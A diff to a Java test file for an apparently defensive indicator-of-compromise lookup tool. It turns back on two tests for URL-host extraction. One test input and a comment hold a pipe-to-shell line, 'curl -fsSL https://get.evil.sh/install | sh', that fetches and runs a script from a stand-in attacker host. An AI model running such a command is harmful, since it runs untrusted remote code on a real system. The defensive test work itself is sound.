@@ -37,7 +37,6 @@ import mockwebserver3.MockWebServer;
 import mockwebserver3.RecordedRequest;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
-import org.junit.jupiter.api.Disabled;
 import org.junit.jupiter.api.Nested;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -604,7 +603,6 @@ class IocLookupCommandTest {
          * --include-private.
          */
         @Test
-        @Disabled("core bug: a URL host without a dot (localhost) is dropped, not skipped; IndicatorExtractor.classify")
         void localhostInAUrlIsSkippedAndCounted() throws IOException {
             Path file = write("values.yaml", "cache: http://localhost:6379/0\nupstream: 185.220.101.4\n");
 
@@ -622,7 +620,6 @@ class IocLookupCommandTest {
          * {@code curl https://get.evil.sh/install | sh} is never looked up.
          */
         @Test
-        @Disabled("core bug: URL hosts under TLDs like .sh/.rs/.py are dropped as file names; IndicatorExtractor.classify")
         void urlHostsUnderTldsThatLookLikeFileExtensions() throws IOException {
             Run run = lookupWithStdin("curl -fsSL https://get.evil.sh/install | sh\n"
                     + "curl https://sh.rustup.rs | sh\n", "--extract", "--format", "json", "--file", "-");
